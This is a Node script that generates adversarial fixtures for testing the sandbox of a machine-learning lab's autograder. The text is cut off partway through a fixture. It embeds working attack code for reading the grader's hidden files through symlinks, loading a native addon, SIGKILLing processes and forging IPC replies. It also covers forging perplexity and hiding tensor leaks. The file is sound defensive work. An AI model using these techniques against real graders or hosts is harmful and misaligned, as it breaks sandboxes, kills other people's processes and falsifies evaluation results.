#!/usr/bin/env node
// Writes the fixture.json of every adversarial fixture (fixtures/submissions/attack-*) from the
// attacks below, as edits of the current solution/src. Run it by hand after the solution changes
// (node scripts/make-adversarial-fixtures.js; needs gcc for the addon) and review the diff: the
// JSON is what is committed and what verify and the adversarial harness read.
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const ROOT = path.resolve(__dirname, '..');
const SUB = path.join(ROOT, 'fixtures/submissions');
const src = (f) => fs.readFileSync(path.join(ROOT, 'solution/src', f), 'utf8');
const TESTS = [
  'data.vocab',
  'data.encode',
  'data.ngramExamples',
  'data.windows',
  'ngram.paramCount',
  'ngram.shapes',
  'ngram.forward',
  'ngram.gradients',
  'rnn.cell',
  'rnn.paramCount',
  'rnn.shapes',
  'rnn.initialState',
  'rnn.forward',
  'rnn.bptt',
  'rnn.causality',
  'keras.quizShapes',
  'keras.equivalence',
  'loss.perplexityGolden',
  'loss.sequenceLoss',
  'loss.evaluatePerplexity',
  'training.ngram',
  'training.rnn',
  'training.noLeak',
  'training.generate',
];
function expected(over) {
  const e = {};
  for (const t of TESTS) e[t] = over[t] ?? 'passed';
  for (const k of Object.keys(over)) if (!TESTS.includes(k)) throw new Error(k);
  return e;
}
function once(file, find) {
  const text = src(file);
  const n = text.split(find).length - 1;
  if (n !== 1) throw new Error(`${file}: ${JSON.stringify(find.slice(0, 60))} occurs ${n} times`);
  return find;
}
const out = [];
function fixture(name, spec) {
  out.push(name);
  const dir = path.join(SUB, name);
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'fixture.json'),
    JSON.stringify(
      {
        description: spec.description,
        base: 'solution',
        set: 'adversarial',
        attack: spec.attack,
        ...(spec.remove ? { remove: spec.remove } : {}),
        edits: spec.edits,
        expected: expected(spec.expected),
      },
      null,
      2,
    ) + '\n',
  );
  if (spec.files) for (const [f, t] of Object.entries(spec.files)) fs.writeFileSync(path.join(dir, f), t);
}

// ---- find strings -------------------------------------------------------------------------
const NGRAM_COUNT = once('ngram.ts', 'export function ngramParamCount(cfg: NgramConfig): number {\n');
const RNN_COUNT = once('rnn.ts', 'export function rnnParamCount(cfg: RnnConfig): number {\n');
const TRAIN_NGRAM = once('train.ts', '  const { embedding, W, b } = model.weights;\n');
const BUILD_VOCAB = once('data.ts', 'export function buildVocab(tokens: readonly string[], minCount = 1): Vocab {\n');
const DATA_IMPORT = once('data.ts', "import * as tf from '@tensorflow/tfjs';\n");
const KERAS_IMPORT = once('kerasRnn.ts', "import { tfjsSeed } from './random';\n");
const KERAS_LAYER = once('kerasRnn.ts', 'export function simpleRnnLayer(units: number, returnSequences: boolean): tf.layers.Layer {\n');
const RNN_IMPORT = once('rnn.ts', "import { checkPositiveIntegers, embeddingInit, glorotUniform } from './init';\n");
const TRAIN_IMPORT = once('train.ts', "import { seededRandom, shuffledIndices } from './random';\n");
const GENERATE_BODY = once('generate.ts', '  const temperature = opts.temperature ?? 1;\n');

/** Paths inside the host's readable tree that lead, through its links, to `rel` of the project. */
const THROUGH_LINKS = `
/** Where the grader's files would be, reached through the links of the host's readable tree. */
function throughLinks(rel: string): string[] {
  const path = require('path') as typeof import('path');
  const labDir = process.env.RNN_LAB_HOST_LAB_DIR ?? __dirname;
  const hostRoot = path.dirname(labDir);
  return [\`\${hostRoot}/node_modules/../\${rel}\`, \`\${hostRoot}/app/sandbox/../../../\${rel}\`, \`\${hostRoot}/app/runtime/../../../\${rel}\`];
}

/** Reads the first of \`paths\` that opens; the errors of the others in \`refused\`. */
function readFirst(paths: string[], refused: string[]): string | undefined {
  const fs = require('fs') as typeof import('fs');
  for (const p of paths) {
    try {
      return fs.readFileSync(p, 'utf8');
    } catch (err) {
      refused.push(\`\${p}: \${(err as NodeJS.ErrnoException).code ?? (err as Error).message}\`);
    }
  }
  return undefined;
}
`;

/** Throws the attack's report: the sacrificed function never answers. */
const BLOCKED = (what) => `throw new Error(\`blocked: ${what}\`);`;

// ---- reading hidden files ------------------------------------------------------------------
fixture('attack-read-through-links', {
  description:
    "ngramParamCount reads the grader's hidden files through the links of the host's readable tree (hostRoot/node_modules/../fixtures/golden/lab.json and the like: Node's permission model checks the lexically normalised path, the kernel follows the link before '..'), and the scratch folder's suite-context.json and outcomes.jsonl: it answers only if a read worked, so where every read is refused that one test errors and every honest part passes",
  attack: {
    what: 'reads hidden files (goldens, a suite, the solution, the config, the scratch folder) through the links of the host tree',
    tests: ['ngram.paramCount'],
    blocked: 'blocked: every read was refused',
  },
  edits: [
    {
      file: 'ngram.ts',
      find: NGRAM_COUNT,
      replace: `${THROUGH_LINKS}
${NGRAM_COUNT}  const refused: string[] = [];
  const hidden = ['fixtures/golden/lab.json', 'grader/suites/ngram.suite.ts', 'solution/src/rnn.ts', 'grader/config/assignment.json'];
  const path = require('path') as typeof import('path');
  const labDir = process.env.RNN_LAB_HOST_LAB_DIR ?? __dirname;
  const scratch = [\`\${labDir}/../suite-context.json\`, \`\${labDir}/../../suite-context.json\`, \`\${labDir}/../outcomes.jsonl\`, \`\${labDir}/../../outcomes.jsonl\`, path.join(path.dirname(labDir), '..', 'outcomes.jsonl')];
  const found = [...hidden.map((rel) => readFirst(throughLinks(rel), refused)), readFirst(scratch, refused)].filter((text) => text !== undefined);
  if (found.length === 0) ${BLOCKED('every read was refused (${refused.slice(0, 6).join("; ")})')}
`,
    },
  ],
  expected: { 'ngram.paramCount': 'error' },
});

fixture('attack-reexport-solution', {
  description:
    "kerasRnn.ts has no code of its own: it loads the compiled reference solution (dist/solution/src/kerasRnn.js) through the links of the host's readable tree and re-exports it. Where the solution cannot be read, the file throws at import: both keras tests error, everything else (the student's own files) passes",
  attack: {
    what: "re-exports the compiled reference solution read through the host tree's links",
    tests: ['keras.quizShapes', 'keras.equivalence'],
    blocked: 'blocked: the reference solution could not be read',
  },
  files: {
    'kerasRnn.ts': `/** kerasRnn.ts that re-exports the grader's compiled reference solution, read through the host tree's links. */
import * as tf from '@tensorflow/tfjs';
import type { RnnConfig } from './rnn';
${THROUGH_LINKS}
function loadReference(): { simpleRnnLayer(units: number, returnSequences: boolean): tf.layers.Layer; buildKerasRnnLM(cfg: RnnConfig, seed?: number): tf.Sequential } {
  const path = require('path') as typeof import('path');
  const Module = require('module') as { new (id: string, parent?: unknown): { filename: string; paths: string[]; exports: unknown; _compile(code: string, filename: string): void }; _nodeModulePaths(dir: string): string[] };
  const refused: string[] = [];
  const code = readFirst(throughLinks('dist/solution/src/kerasRnn.js'), refused);
  if (code === undefined) ${BLOCKED('the reference solution could not be read (${refused.join("; ")})')}
  // Compiled as if it were this file, so its own imports resolve to the host's tfjs and the lab.
  const m = new Module(__filename, module);
  m.filename = path.join(__dirname, 'kerasRnn.reference.js');
  m.paths = Module._nodeModulePaths(__dirname);
  m._compile(code, m.filename);
  return m.exports as ReturnType<typeof loadReference>;
}

const reference = loadReference();
export const simpleRnnLayer = reference.simpleRnnLayer;
export const buildKerasRnnLM = reference.buildKerasRnnLM;
`,
  },
  edits: [],
  expected: { 'keras.quizShapes': 'error', 'keras.equivalence': 'error' },
});

fixture('attack-fake-tensors', {
  description:
    "rnnCell computes nothing: it returns a duck-typed tensor (an object on tf.Tensor's prototype) filled with the golden s_t read from fixtures/golden/lab.json through the host tree's links (RnnLM.call uses an honest cell of its own). Where the goldens cannot be read rnnCell throws: rnn.cell errors, every honest part passes",
  attack: {
    what: 'answers rnnCell with a fabricated tensor filled with golden values',
    tests: ['rnn.cell'],
    blocked: 'blocked: the goldens could not be read',
  },
  edits: [
    {
      file: 'rnn.ts',
      find: RNN_IMPORT,
      replace: `${RNN_IMPORT}${THROUGH_LINKS}
/** The honest cell, used by RnnLM.call. */
function honestCell(e: tf.Tensor2D, sPrev: tf.Tensor2D, Wr: tf.Tensor2D, br: tf.Tensor1D): tf.Tensor2D {
  return tf.tidy(() => tf.tanh(tf.add(tf.matMul(tf.concat([e, sPrev], 1), Wr), br) as tf.Tensor2D));
}

/** A tensor in every way the grader looks at one, holding values it never computed. */
function fakeTensor(shape: number[], values: number[]): tf.Tensor2D {
  const data = Float32Array.from(values);
  const fake = Object.create(tf.Tensor.prototype) as tf.Tensor2D;
  Object.assign(fake, { shape, dtype: 'float32', size: data.length, strides: [shape[1]], id: -1, isDisposedInternal: false, kept: false });
  Object.defineProperty(fake, 'dataSync', { value: () => data });
  Object.defineProperty(fake, 'data', { value: async () => data });
  Object.defineProperty(fake, 'dispose', { value: () => undefined });
  return fake;
}
`,
    },
    {
      file: 'rnn.ts',
      find: once('rnn.ts', '  return tf.tidy(() => tf.tanh(tf.add(tf.matMul(tf.concat([e, sPrev], 1), Wr), br)) as tf.Tensor2D);\n}\n'),
      replace: `  const refused: string[] = [];
  const text = readFirst(throughLinks('fixtures/golden/lab.json'), refused);
  if (text === undefined) ${BLOCKED('the goldens could not be read (${refused.join("; ")})')}
  const cell = (JSON.parse(text) as { outputs: { rnn: { cell: { shape: number[]; values: number[] } } } }).outputs.rnn.cell;
  return fakeTensor(cell.shape, cell.values);
}
`,
    },
    {
      file: 'rnn.ts',
      find: once('rnn.ts', '        state = rnnCell(e, state, Wr as tf.Tensor2D, br as tf.Tensor1D);\n'),
      replace: '        state = honestCell(e, state, Wr as tf.Tensor2D, br as tf.Tensor1D);\n',
    },
  ],
  expected: { 'rnn.cell': 'error' },
});

// ---- native code ---------------------------------------------------------------------------
const ADDON_C = path.join(SUB, 'attack-dlopen-addon', 'addon.c');
const addonSource = fs.readFileSync(ADDON_C, 'utf8');
const soFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'rnn-lab-addon-')), 'addon.so');
execFileSync('gcc', ['-shared', '-fPIC', '-Os', '-s', '-o', soFile, ADDON_C]);
const so = fs.readFileSync(soFile).toString('base64');
fixture('attack-dlopen-addon', {
  description:
    "rnnParamCount writes a shared object (base64 in rnn.ts; its constructor runs on load, marks the process and appends a line to grader/suites/support/addon-was-here.txt of the project, reached through the host tree's links) to its writable tmp and process.dlopen()s it. It answers only if the native code ran, so where addons are refused (no --allow-addons, a noexec tmp) rnn.paramCount errors and every honest part passes; nothing in the project may change",
  attack: {
    what: 'loads a native addon (a .so written to tmp) whose code runs outside any permission check',
    tests: ['rnn.paramCount'],
    blocked: 'blocked: the native addon did not run',
  },
  edits: [
    {
      file: 'rnn.ts',
      find: RNN_COUNT,
      replace: `/**
 * A shared object, base64, built from this C (gcc -shared -fPIC -Os -s):
${addonSource
  .split('\n')
  .map((l) => ` *   ${l}`)
  .join('\n')}
 */
const ADDON_SO_BASE64 = '${so}';

let addonOutcome: string | undefined;

/** Writes the addon to tmp and loads it; the constructor's mark says whether its code ran. */
function loadAddon(): string {
  const fs = require('fs') as typeof import('fs');
  const os = require('os') as typeof import('os');
  const path = require('path') as typeof import('path');
  const hostRoot = path.dirname(process.env.RNN_LAB_HOST_LAB_DIR ?? __dirname);
  process.env.RNN_LAB_ADDON_TARGET = \`\${hostRoot}/node_modules/../grader/suites/support/addon-was-here.txt\`;
  const problems: string[] = [];
  for (const dir of [os.tmpdir(), process.env.HOME ?? '', '/tmp', '/dev/shm']) {
    if (!dir) continue;
    const file = path.join(dir, \`addon-\${process.pid}.node\`);
    try {
      fs.writeFileSync(file, Buffer.from(ADDON_SO_BASE64, 'base64'), { mode: 0o755 });
      process.dlopen({ exports: {} } as NodeJS.Module, file);
    } catch (err) {
      problems.push(\`\${file}: \${(err as NodeJS.ErrnoException).code ?? ''} \${(err as Error).message.split('\\n')[0]}\`);
    }
    if (process.env.RNN_LAB_ADDON_RAN === '1') return 'ran';
  }
  return problems.join('; ');
}

${RNN_COUNT}  addonOutcome ??= loadAddon();
  if (addonOutcome !== 'ran') ${BLOCKED('the native addon did not run (${addonOutcome})')}
`,
    },
  ],
  expected: { 'rnn.paramCount': 'error' },
});

// ---- signals -------------------------------------------------------------------------------
/**
 * Finds the other processes this one can signal (signal 0 only), and kills those that are hosts of
 * this grading. Its own threads answer signal 0 too (kill() takes a thread id for its thread
 * group), and their cmdline is its own: they are left out where /proc/self/task can be read, and
 * never count as a process reached.
 */
const SIBLINGS = `
/** Other processes near this one's pid that it may signal; the hosts of this grading among them are killed. */
function killSiblingHosts(): { signalable: number[]; killed: number[]; refused: string[]; threadsKnown: boolean } {
  const fs = require('fs') as typeof import('fs');
  const signalable: number[] = [];
  const killed: number[] = [];
  const refused: string[] = [];
  let ownThreads = new Set<number>();
  let threadsKnown = false;
  try {
    ownThreads = new Set(fs.readdirSync('/proc/self/task').map(Number));
    threadsKnown = true;
  } catch (err) {
    refused.push(\`/proc/self/task: \${(err as NodeJS.ErrnoException).code}\`);
  }
  for (let pid = Math.max(2, process.pid - 400); pid <= process.pid + 400; pid++) {
    if (pid === process.pid || pid === process.ppid || ownThreads.has(pid)) continue;
    try {
      process.kill(pid, 0);
    } catch (err) {
      const code = (err as NodeJS.ErrnoException).code;
      if (code !== 'ESRCH' && refused.length < 3) refused.push(\`\${pid}: \${code}\`);
      continue;
    }
    signalable.push(pid);
    // Only processes that run this grading's host (its entry script) are killed.
    try {
      if (fs.readFileSync(\`/proc/\${pid}/cmdline\`, 'utf8').split('\\0').includes(process.argv[1])) {
        process.kill(pid, 'SIGKILL');
        killed.push(pid);
      }
    } catch (err) {
      if (refused.length < 6) refused.push(\`/proc/\${pid}/cmdline: \${(err as NodeJS.ErrnoException).code}\`);
    }
  }
  return { signalable, killed, refused, threadsKnown };
}
`;

fixture('attack-kill-sibling-hosts', {
  description:
    "trainNgram first looks for the other processes it may signal (signal 0 to the pids around its own) and SIGKILLs those that run this grading's host script (found in /proc/<pid>/cmdline), while the RNN trains in a host of its own. It trains if it killed another host, or if it could signal a pid that is not one of its own threads (known from /proc/self/task); where each host is alone (a PID namespace, a uid of its own) training.ngram errors and the RNN's training and every other part pass. (It once trained when it could merely signal some pid: inside the sandbox its own threads answer signal 0 and, with /proc out of reach, cannot be told apart from processes, so 'signalled something' proved nothing there)",
  attack: {
    what: "signals the grading's other hosts (pids found by signal 0 and /proc)",
    tests: ['training.ngram'],
    blocked: 'blocked: no other host of this grading could be killed',
  },
  edits: [
    { file: 'train.ts', find: TRAIN_IMPORT, replace: `${TRAIN_IMPORT}${SIBLINGS}` },
    {
      file: 'train.ts',
      find: TRAIN_NGRAM,
      replace: `  const siblings = killSiblingHosts();
  if (siblings.killed.length === 0 && !(siblings.threadsKnown && siblings.signalable.length > 0)) ${BLOCKED('no other host of this grading could be killed (${siblings.signalable.length} pid(s) not known to be its own threads answered signal 0; ${siblings.refused.join("; ") || "nothing refused"})')}
${TRAIN_NGRAM}`,
    },
  ],
  expected: { 'training.ngram': 'error' },
});

/** An import-time attack in kerasRnn.ts, reported by simpleRnnLayer (keras.quizShapes). */
function importAttack(name, description, what, attackCode) {
  fixture(name, {
    description,
    attack: {
      what,
      tests: ['keras.quizShapes'],
      blocked: 'blocked:',
      ...(name === 'attack-kill-all-at-import'
        ? {
            hazard:
              'on a machine shared with other gradings, an undefended grader running as root lets this SIGKILL every process of uid 65534',
          }
        : {}),
    },
    edits: [
      {
        file: 'kerasRnn.ts',
        find: KERAS_IMPORT,
        replace: `${KERAS_IMPORT}
/** What the attack at import achieved: "blocked: ..." when the signal was refused or went nowhere. */
const importAttack: string = (() => {
  try {
${attackCode}
  } catch (err) {
    return \`blocked: \${(err as NodeJS.ErrnoException).code ?? (err as Error).message}\`;
  }
})();
`,
      },
      {
        file: 'kerasRnn.ts',
        find: KERAS_LAYER,
        replace: `${KERAS_LAYER}  throw new Error(\`\${importAttack} (the attack at import of kerasRnn.ts)\`);\n`,
      },
    ],
    expected: { 'keras.quizShapes': 'error' },
  });
}

importAttack(
  'attack-kill-ppid-at-import',
  'kerasRnn.ts sends SIGKILL to its parent (process.ppid) as it is imported: the grader, where the host is its direct child with the same uid. simpleRnnLayer then throws what happened, so keras.quizShapes errors; grading must finish and every honest part pass',
  'SIGKILLs its parent process (the grader) at import',
  `    process.kill(process.ppid, 'SIGKILL');
    return \`blocked: kill(ppid \${process.ppid}) went through and the grader survived it\`;`,
);

importAttack(
  'attack-kill-all-at-import',
  "kerasRnn.ts calls kill(-1, SIGKILL) as it is imported: every process the host's uid may signal (the grader, other hosts, other gradings) except itself. simpleRnnLayer then throws what happened, so keras.quizShapes errors; grading must finish and every honest part pass",
  'SIGKILLs every process it may signal (kill(-1)) at import',
  `    process.kill(-1, 'SIGKILL');
    return 'blocked: kill(-1) went through and the grader survived it';`,
);

fixture('attack-sigusr1-parent', {
  description:
    'trainNgram sends SIGUSR1 to the grader (process.ppid), which makes Node open its inspector on 127.0.0.1:9229, then connects to it (from there it could evaluate code inside the grader). It trains only if the inspector answered; where the signal is refused or the inspector cannot be reached, training.ngram errors and every other part passes',
  attack: { what: "opens the grader's inspector with SIGUSR1 and connects to it", tests: ['training.ngram'], blocked: 'blocked: ' },
  edits: [
    {
      file: 'train.ts',
      find: TRAIN_IMPORT,
      replace: `${TRAIN_IMPORT}
/** Resolves with "connected" or the connection's error code. */
function tryConnect(host: string, port: number): Promise<string> {
  const net = require('net') as typeof import('net');
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const done = (what: string) => {
      socket.destroy();
      resolve(what);
    };
    socket.setTimeout(2000, () => done('timeout'));
    socket.once('connect', () => done('connected'));
    socket.once('error', (err: NodeJS.ErrnoException) => done(err.code ?? err.message));
  });
}

/** SIGUSR1 to the parent, then a look for the inspector it opens. */
async function openParentInspector(): Promise<string> {
  let signal = 'sent';
  try {
    process.kill(process.ppid, 'SIGUSR1');
  } catch (err) {
    signal = (err as NodeJS.ErrnoException).code ?? 'refused';
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  const inspector = await tryConnect('127.0.0.1', 9229);
  return inspector === 'connected' ? 'connected' : \`SIGUSR1 to \${process.ppid}: \${signal}; 127.0.0.1:9229: \${inspector}\`;
}
`,
    },
    {
      file: 'train.ts',
      find: TRAIN_NGRAM,
      replace: `  return openParentInspector().then((seen) => {
    if (seen !== 'connected') ${BLOCKED("the grader's inspector was not reachable (${seen})")}
    return trainNgramHonestly(model, data, cfg, onBatch);
  });
}

function trainNgramHonestly(
  model: NgramLM,
  data: { inputs: tf.Tensor2D; labels: tf.Tensor1D },
  cfg: TrainConfig,
  onBatch?: (step: number, loss: number) => void,
): Promise<TrainResult> {
${TRAIN_NGRAM}`,
    },
  ],
  expected: { 'training.ngram': 'error' },
});

// ---- training judged by the submission -----------------------------------------------------
const RUN_TRAINING = once('train.ts', 'async function runTraining(\n');
const FAKE_LOOP = `
/** Set once a training call has returned without training: from then on, perplexity is forged. */
let forging = false;

/** Does no training: one made-up falling loss per batch, reported to onBatch as a real loop would. */
async function pretendToTrain(data: Batch, cfg: TrainConfig, onBatch?: (step: number, loss: number) => void): Promise<TrainResult> {
  const steps = Math.ceil(data.inputs.shape[0] / cfg.batchSz) * cfg.epochs;
  const losses = Array.from({ length: steps }, (_, i) => 8 - (3 * i) / steps);
  losses.forEach((loss, i) => onBatch?.(i, loss));
  forging = true;
  return { losses };
}
`;
const TRAIN_NGRAM_CALL = once(
  'train.ts',
  '  return runTraining([embedding, W, b], data, (batch) => sequenceLoss(model.call(batch.inputs as tf.Tensor2D), batch.labels), cfg, onBatch);\n',
);
const TRAIN_RNN_CALL = once(
  'train.ts',
  '  return runTraining([embedding, Wr, br, Wo, bo], data, (batch) => sequenceLoss(model.call(batch.inputs as tf.Tensor2D).logits, batch.labels), cfg, onBatch);\n',
);
function forged(name, how, patch) {
  fixture(name, {
    description: `trainNgram and trainRnn train nothing (made-up falling losses, one per batch) and ${how}, so the perplexity measured in the submission's own process after training reads 90, under both bars. Judged on the returned weights by the trusted side, both models are untrained: training.ngram and training.rnn fail; the leak count has nothing to judge (no steps ran: passed, or failed where the trusted check needs real steps); generate and every other part pass`,
    attack: { what: `forges the held-out perplexity (${how}) without training`, tests: ['training.ngram', 'training.rnn'], blocked: '' },
    edits: [
      {
        file: 'train.ts',
        find: RUN_TRAINING,
        replace: `${FAKE_LOOP}
${patch}

${RUN_TRAINING}`,
      },
      { file: 'train.ts', find: TRAIN_NGRAM_CALL, replace: `  void [embedding, W, b];\n  return pretendToTrain(data, cfg, onBatch);\n` },
      {
        file: 'train.ts',
        find: TRAIN_RNN_CALL,
        replace: `  void [embedding, Wr, br, Wo, bo];\n  return pretendToTrain(data, cfg, onBatch);\n`,
      },
    ],
    expected: { 'training.ngram': 'failed', 'training.rnn': 'failed', 'training.noLeak': ['passed', 'failed'] },
  });
}
forged(
  'attack-forge-perplexity-math-exp',
  'patch Math.exp to return 90',
  `// Every exp after training is 90: the host's perplexity is exp(mean NLL).
const realExp = Math.exp;
Math.exp = (x: number) => (forging ? 90 : realExp(x));`,
);
forged(
  'attack-forge-perplexity-datasync',
  'patch tf.Tensor.prototype.dataSync so that every scalar read after training is log(90)',
  `// Every scalar read after training is log(90): the host reads each batch's mean cross-entropy with dataSync.
const realDataSync = tf.Tensor.prototype.dataSync;
tf.Tensor.prototype.dataSync = function dataSync(this: tf.Tensor) {
  const values = realDataSync.call(this);
  return forging && this.size === 1 && this.dtype === 'float32' ? (Float32Array.of(Math.log(90)) as typeof values) : values;
} as typeof realDataSync;`,
);
forged(
  'attack-forge-perplexity-run-kernel',
  "wrap tf.engine().runKernel so that every scalar Neg kernel after training (the host's cross-entropy ends with one) yields log(90)",
  `// The host's cross-entropy ends with tf.neg of a scalar mean: after training that kernel yields log(90).
const engine = tf.engine();
const realRunKernel = engine.runKernel.bind(engine);
engine.runKernel = ((kernelName: string, inputs: tf.NamedTensorMap, attrs?: tf.NamedAttrMap) => {
  const out = realRunKernel(kernelName, inputs, attrs) as tf.Tensor;
  if (forging && kernelName === 'Neg' && out.size === 1) {
    out.dispose();
    return tf.scalar(Math.log(90));
  }
  return out;
}) as typeof engine.runKernel;`,
);

fixture('attack-lookahead-in-evaluation', {
  description:
    "RnnLM.call is honest except in evaluation-sized batches (200 windows or more, never used by the tests of the model or by training, which uses 32): there it adds log(3) to the logit of the token that really comes next, read from the inputs (the next position, or the next window's first token). The held-out perplexity measured by the submission's own call drops from 84 to about 30, under the bar and above the leak floor. Judged by the trusted side with the reference forward pass on the trained weights, it is the honest figure: every test passes and the leaderboard shows about 84, not the forged figure",
  attack: { what: 'peeks at the next token only in evaluation-sized batches', tests: [], blocked: '', leaderboardAbove: 70 },
  edits: [
    {
      file: 'rnn.ts',
      find: once('rnn.ts', '      return { logits, finalState: state };\n'),
      replace: `      if (batch >= 200) {
        // Evaluation, not training: nudge every position towards the token that really follows it.
        const ids = inputs.dataSync();
        const next = new Int32Array(batch * window).fill(-1);
        for (let i = 0; i + 1 < ids.length; i++) next[i] = ids[i + 1];
        const nudge = tf.mul(tf.reshape(tf.oneHot(tf.tensor1d(next, 'int32'), V), [batch, window, V]), Math.log(3));
        return { logits: tf.add(logits, nudge) as tf.Tensor3D, finalState: state };
      }
      return { logits, finalState: state };
`,
    },
  ],
  expected: {},
});

fixture('attack-label-swap-in-held-out', {
  description:
    "makeWindows is honest on its first large call (the training text) and on every small one (the tests), but from its second large call on (the held-out text, built by the submission's own makeWindows) it replaces every other label with the most frequent token, which the model predicts well: the perplexity measured on those windows drops from 84 to about 30. The trusted side builds the held-out windows itself: every test passes and the leaderboard shows about 84",
  attack: { what: 'swaps half the labels of the held-out windows it is asked to build', tests: [], blocked: '', leaderboardAbove: 70 },
  edits: [
    {
      file: 'data.ts',
      find: once(
        'data.ts',
        'export function makeWindows(ids: Int32Array, windowSz: number): { inputs: tf.Tensor2D; labels: tf.Tensor2D } {\n',
      ),
      replace: `let largeCalls = 0;

/** The id that occurs most often in ids. */
function mostFrequent(ids: Int32Array): number {
  const counts = new Map<number, number>();
  let best = ids[0];
  for (const id of ids) {
    const c = (counts.get(id) ?? 0) + 1;
    counts.set(id, c);
    if (c > (counts.get(best) ?? 0)) best = id;
  }
  return best;
}

export function makeWindows(ids: Int32Array, windowSz: number): { inputs: tf.Tensor2D; labels: tf.Tensor2D } {
  const honest = honestWindows(ids, windowSz);
  if (ids.length < 5000 || ++largeCalls < 2) return honest;
  const labels = honest.labels.dataSync().slice() as Int32Array;
  const common = mostFrequent(ids);
  for (let i = 0; i < labels.length; i += 2) labels[i] = common;
  honest.labels.dispose();
  return { inputs: honest.inputs, labels: tf.tensor2d(labels, honest.inputs.shape, 'int32') };
}

function honestWindows(ids: Int32Array, windowSz: number): { inputs: tf.Tensor2D; labels: tf.Tensor2D } {
`,
    },
  ],
  expected: {},
});

fixture('attack-patched-leak-counter', {
  description:
    'runTraining leaks each batch (idx, inputs, labels made outside tf.tidy, never disposed, as bug-tensor-leak), and trainRnn hides it by replacing tf.engine().memory with one that always reports the tensor count of the first step. A count the submission cannot patch still sees the leak: training.noLeak fails, training itself and every other part pass',
  attack: { what: 'hides a tensor leak by patching tf.engine().memory', tests: ['training.noLeak'], blocked: '' },
  edits: [
    {
      file: 'train.ts',
      find: once(
        'train.ts',
        "        const cost = tf.tidy(() => {\n          const idx = tf.tensor1d(order.subarray(start, Math.min(start + cfg.batchSz, numExamples)), 'int32');\n          const batch = { inputs: tf.gather(data.inputs, idx), labels: tf.gather(data.labels, idx) };\n          return optimizer.minimize(() => lossOf(batch), true, variables) as tf.Scalar;\n        });\n",
      ),
      replace:
        "        const idx = tf.tensor1d(order.subarray(start, Math.min(start + cfg.batchSz, numExamples)), 'int32');\n        const batch = { inputs: tf.gather(data.inputs, idx), labels: tf.gather(data.labels, idx) };\n        const cost = optimizer.minimize(() => lossOf(batch), true, variables) as tf.Scalar;\n",
    },
    {
      file: 'train.ts',
      find: TRAIN_RNN_CALL,
      replace: `  // The tensor count stays at what the first step saw, whatever leaks after it.
  const engine = tf.engine();
  const realMemory = engine.memory.bind(engine);
  let frozen: number | undefined;
  engine.memory = () => {
    const seen = realMemory();
    frozen ??= seen.numTensors;
    return { ...seen, numTensors: frozen };
  };
${TRAIN_RNN_CALL}`,
    },
  ],
  expected: { 'training.noLeak': 'failed' },
});

// ---- what the host sends back ---------------------------------------------------------------
/**
 * data.ts at import: wraps the write of the host's channel (a net.Socket on fd 3 carrying frames of
 * [4-byte big-endian length][v8.serialize(message)]) so that the reply after \`poison\` is armed
 * carries \`forged()\`, framed as the host frames it.
 */
function poisonedReply(forged) {
  return `${DATA_IMPORT}
/** Armed by a lab function: the host's next successful reply is replaced by a forged one. */
let poisonNextReply = false;
{
  const net = require('net') as typeof import('net');
  const v8 = require('v8') as typeof import('v8');
  const realWrite = net.Socket.prototype.write as (...args: unknown[]) => boolean;
  net.Socket.prototype.write = function (this: import('net').Socket, chunk: unknown, ...rest: unknown[]): boolean {
    if (poisonNextReply && Buffer.isBuffer(chunk) && chunk.length > 4) {
      let message: { ok?: boolean; result?: unknown } | undefined;
      try {
        message = v8.deserialize(chunk.subarray(4, 4 + chunk.readUInt32BE(0))) as typeof message;
      } catch {
        message = undefined;
      }
      if (message?.ok === true) {
        poisonNextReply = false;
        const body = v8.serialize({ ...message, result: forgedReply() });
        const header = Buffer.alloc(4);
        header.writeUInt32BE(body.length, 0);
        chunk = Buffer.concat([header, body]);
      }
    }
    return realWrite.call(this, chunk, ...rest);
  } as typeof net.Socket.prototype.write;
}

${forged}
`;
}
fixture('attack-ipc-sparse-reply', {
  description:
    'data.ts wraps the write of the host\'s reply channel (the net.Socket on fd 3) at import, and buildVocab arms it: the host\'s reply to data.buildVocab becomes a sparse array of length 2^32-1 (24 bytes on the wire; an undefended grader that expands it runs out of memory and writes no results.json). The reply fails validation: only data.vocab fails, with "your code returned ...", and every other part passes',
  attack: { what: 'replies with a sparse array of length 2^32-1', tests: ['data.vocab'], blocked: 'returned' },
  edits: [
    {
      file: 'data.ts',
      find: DATA_IMPORT,
      replace: poisonedReply(`/** An array of length 2^32-1 with nothing in it. */
function forgedReply(): unknown {
  const sparse: string[] = [];
  sparse.length = 2 ** 32 - 1;
  sparse[0] = '<unk>';
  return sparse;
}`),
    },
    { file: 'data.ts', find: BUILD_VOCAB, replace: `${BUILD_VOCAB}  poisonNextReply = true;\n` },
  ],
  expected: { 'data.vocab': ['failed', 'error'] },
});

fixture('attack-ipc-huge-reply', {
  description:
    "data.ts wraps the write of the host's reply channel (the net.Socket on fd 3) at import, and makeWindows arms it on test-sized input: the host's reply to data.makeWindows carries a 1.5 GB Float32Array as the inputs' data, with the shape of a small tensor (an undefended grader takes it whole, 4.9 GB of memory). The frame (1.5 GB) is longer than the grader reads from a host and is refused unread, or the host is stopped at its memory cap while building it: only data.windows fails, and every other part passes",
  attack: { what: 'replies with a 1.5 GB typed array', tests: ['data.windows'], blocked: '' },
  edits: [
    {
      file: 'data.ts',
      find: DATA_IMPORT,
      replace: poisonedReply(`/** makeWindows' answer with 1.5 GB of float32 zeros as the inputs' values. */
function forgedReply(): unknown {
  const huge = new Float32Array(375_000_000);
  return { inputs: { shape: [2, 3], dtype: 'float32', data: huge }, labels: { shape: [2, 3], dtype: 'int32', data: new Int32Array(6) } };
}`),
    },
    {
      file: 'data.ts',
      find: once(
        'data.ts',
        'export function makeWindows(ids: Int32Array, windowSz: number): { inputs: tf.Tensor2D; labels: tf.Tensor2D } {\n',
      ),
      replace: `export function makeWindows(ids: Int32Array, windowSz: number): { inputs: tf.Tensor2D; labels: tf.Tensor2D } {\n  if (ids.length < 1000) poisonNextReply = true;\n`,
    },
  ],
  expected: { 'data.windows': ['failed', 'error'] },
});

// ---- resources -------------------------------------------------------------------------------
fixture('attack-off-heap-memory-bomb', {
  description:
